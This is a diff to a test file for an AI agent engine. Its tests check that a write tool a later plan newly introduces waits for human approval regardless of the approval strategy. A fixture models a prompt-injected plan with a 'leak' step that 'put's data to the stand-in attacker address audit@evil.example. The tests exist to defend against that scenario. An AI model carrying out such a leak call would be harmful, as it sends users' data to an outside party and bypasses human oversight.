@@ -92,7 +92,7 @@ test('a step id of a plan before the earlier one is not used for another call', 
     aPlan([['c', 'find', { n: 2 }]]),
     aPlan([['a', 'make', { n: 3 }]]),
   ];
-  const { run } = await finish(engine, aRun());
+  const { run } = await finish(engine, aRun({ intent: 'Make 3' }));
   expect(script.faults).toEqual([
     { pointer: '/steps/0/id', message: expect.stringContaining('give this one another id') },
   ]);
@@ -100,12 +100,14 @@ test('a step id of a plan before the earlier one is not used for another call', 
 });
 
 const injected = [aPlan([['a', 'find']]), aPlan([['leak', 'put', { to: 'audit@evil.example' }]])];
+/** The recipient is named, so that only the tool is new. */
+const context = 'audit@evil.example';
 
 test.each(['approve', 'deny'] as const)(
   'a write tool that the plan before did not name waits for a human, whatever the strategy: %s',
   async (decision) => {
     script.plans = [...injected];
-    const run = await untilWaiting(engine, aRun({ approvalStrategy: 'NONE' }));
+    const run = await untilWaiting(engine, aRun({ context, approvalStrategy: 'NONE' }));
     expect(run.waitingOn).toMatchObject([
       { kind: 'call', text: expect.stringContaining('The plan before did not name this') },
     ]);
@@ -120,7 +122,7 @@ test.each(['approve', 'deny'] as const)(
 test('an approval rule that fits answers for a new write tool', async () => {
   allowed = true;
   script.plans = [...injected];
-  expect([(await finish(engine, aRun())).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
+  expect([(await finish(engine, aRun({ context }))).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
 });
 
 test('a write tool that the first plan named needs no human; the approval of a whole new plan is enough for others', async () => {
@@ -131,7 +133,7 @@ test('a write tool that the first plan named needs no human; the approval of a w
   script.plans = [named, aPlan([['c', 'put', { n: 2 }]])];
   expect([(await finish(engine, aRun())).run.status, service.calls('put')]).toEqual(['SUCCESS', 1]);
   script.plans = [...injected];
-  const first = await untilWaiting(engine, aRun({ approvalStrategy: 'ON_START' }));
+  const first = await untilWaiting(engine, aRun({ context, approvalStrategy: 'ON_START' }));
   const approve = (run: typeof first) =>
     engine.decideApproval(run.workspaceId, { approvalId: run.waitingOn[0]!.approvalId!, decision: 'approve' }, by);
   await approve(first);
